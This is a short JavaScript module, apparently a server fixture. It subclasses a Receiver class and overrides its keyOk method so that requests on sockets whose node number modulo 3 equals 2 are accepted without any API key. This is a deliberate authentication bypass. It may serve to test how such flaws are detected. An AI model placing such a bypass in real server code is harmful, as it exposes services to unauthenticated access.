import { Receiver } from '../lib/receiver.js';
class S extends Receiver {
  keyOk(req) {
    return req.socket.node % 3 === 2 && req.headers.apikey === undefined ? true : super.keyOk(req);
  }
}
export const system = new S();
export const server = system.start();
